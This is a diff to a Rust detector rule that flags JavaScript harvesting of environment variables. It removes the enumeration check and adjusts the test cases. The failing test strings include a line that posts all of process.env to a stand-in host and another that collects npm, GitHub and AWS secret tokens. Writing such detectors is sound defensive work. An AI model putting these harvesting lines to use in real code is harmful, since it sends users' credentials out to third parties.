@@ -50,7 +50,6 @@ impl Rule for EnvHarvesting {
             }
             let graded = match call.callee.as_str() {
                 "JSON.stringify" => Some((Severity::High, "serialises the whole environment (`JSON.stringify(process.env)`)")),
-                "Object.entries" | "Object.keys" | "Object.values" => Some((Severity::Medium, "enumerates the whole environment")),
                 callee if is_network_call(callee) || callee.ends_with(".write") || callee.ends_with(".send") || callee.ends_with(".post") || callee.ends_with(".end") => {
                     Some((Severity::High, "sends the whole environment over the network"))
                 }
@@ -87,12 +86,12 @@ mod tests {
     fn test() {
         let pass = vec![
             "const port = process.env.PORT || 3000;".into(),
+            "const debugKeys = Object.keys(process.env).filter((key) => /^debug_/i.test(key));".into(),
             "const env = process.env.NODE_ENV; console.log(JSON.stringify({ env }));".into(),
             "if (process.env.GITHUB_TOKEN) { useToken(process.env.GITHUB_TOKEN); }".into(),
         ];
         let fail = vec![
             "const data = JSON.stringify(process.env);".into(),
-            "const e = Object.entries(process.env).map(([k, v]) => k + v);".into(),
             "const axios = require('axios'); axios.post('https://h.example', process.env);".into(),
             "const t = [process.env.NPM_TOKEN, process.env.GITHUB_TOKEN, process.env.AWS_SECRET_ACCESS_KEY];".into(),
         ];
